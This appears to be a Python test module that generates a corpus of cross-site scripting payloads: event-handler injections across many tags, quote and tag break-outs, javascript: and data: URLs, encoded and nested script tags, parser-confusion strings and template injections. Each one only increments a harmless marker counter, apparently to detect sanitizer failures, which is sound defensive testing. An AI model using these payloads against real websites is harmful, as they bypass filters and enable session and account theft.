"""Words that would run as a script wherever a text is taken for markup, an address or a formula."""

from collections.abc import Iterator
from itertools import product

STRIKE = "window.struck=(window.struck||0)+1"
"""What each of them would do."""

HANDLED = {
    "img": ("src=x onerror", "src=x: onerror"),
    "svg": ("onload", "/onload"),
    "body": ("onload", "onpageshow"),
    "iframe": ("onload", "src=about:blank onload"),
    "video": ("src=x onerror", "autoplay onloadstart"),
    "audio": ("src=x onerror", "src=x onloadstart"),
    "details": ("open ontoggle", "open=1 ontoggle"),
    "input": ("autofocus onfocus", "type=image src=x onerror"),
    "select": ("autofocus onfocus",),
    "textarea": ("autofocus onfocus",),
    "object": ("data=x onerror", "onerror"),
    "embed": ("src=x onload",),
    "link": ("rel=stylesheet href=x onerror",),
    "style": ("onload",),
    "script": ("src=x onerror", "src=data:, onload"),
    "marquee": ("onstart",),
    "source": ("onerror",),
    "button": ("autofocus onfocus",),
    "a": ("href=x autofocus onfocus",),
    "div": ("contenteditable autofocus onfocus", "style=animation-name:x onanimationstart"),
}
QUOTED = ('{}="{}">', "{}='{}'>", "{}={}>")
"""An attribute and what it does, in each way that a browser reads one."""

BREAKING_OUT = ('">', "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "]]>", "`>")
CARRIED = (
    f"<script>{STRIKE}</script>",
    f"<img src=x onerror={STRIKE}>",
    f"<svg><script>{STRIKE}</script></svg>",
    f"<iframe src='javascript:{STRIKE}'></iframe>",
    f"<input autofocus onfocus={STRIKE}>",
    f"<details open ontoggle={STRIKE}>",
)
SCHEMES = ("javascript", "JaVaScRiPt", "java\tscript", " javascript", "javascript\n", "vbscript")
ADDRESSES = (
    *(f"{scheme}:{STRIKE}" for scheme in SCHEMES),
    f"data:text/html,<script>{STRIKE}</script>",
    f"[click](javascript:{STRIKE})",
    f"<a href='javascript:{STRIKE}'>click</a>",
    f'<form action="javascript:{STRIKE}"><button>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{STRIKE}">',
    f'<base href="javascript:{STRIKE}//">',
    f'https://example.com/"onmouseover="{STRIKE}',
    f"https://example.com/?<script>{STRIKE}</script>",
)
ODD = (
    f"<<script>{STRIKE}//<</script>",
    f"<scr<script>ipt>{STRIKE}</scr</script>ipt>",
    f"&lt;script&gt;{STRIKE}&lt;/script&gt;",
    f"&#60;script&#62;{STRIKE}&#60;/script&#62;",
    f"\\u003cscript\\u003e{STRIKE}\\u003c/script\\u003e",
    f"%3Cscript%3E{STRIKE}%3C/script%3E",
    f"<SCRIPT\n>{STRIKE}</SCRIPT\t>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={STRIKE}>",
    f'<noscript><p title="</noscript><img src=x onerror={STRIKE}>">',
    f"<template><script>{STRIKE}</script></template>",
    f'<iframe srcdoc="<script>parent.{STRIKE}</script>"></iframe>',
    f"<svg><animate onbegin={STRIKE} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{STRIKE}'><text>x</text></a></svg>",
    f"{{{{constructor.constructor('{STRIKE}')()}}}}",
    f"${{{STRIKE}}}",
    f"<%= {STRIKE} %>",
    f"#{{{STRIKE}}}",
    f"';{STRIKE};//",
    f'";{STRIKE};//',
    f"\\';{STRIKE};//",
    f"</script><script>{STRIKE}</script>",
    f'<!--<img src="--><img src=x onerror={STRIKE}>">',
    f"<img src=`x` onerror={STRIKE}>",
    f"<img\x0bsrc=x\x0conerror={STRIKE}>",
)


def payloads() -> tuple[str, ...]:
    """Return all of them, each once."""
    return tuple(dict.fromkeys((*_handlers(), *_broken_out(), *ADDRESSES, *ODD)))


def _handlers() -> Iterator[str]:
    for tag, starts in HANDLED.items():
        for start, quoted in product(starts, QUOTED):
            yield f"<{tag} " + quoted.format(start, STRIKE)
        yield f"<{tag.upper()}/{starts[0]}={STRIKE}//"


def _broken_out() -> Iterator[str]:
    for before, carried in product(BREAKING_OUT, CARRIED):
        yield before + carried
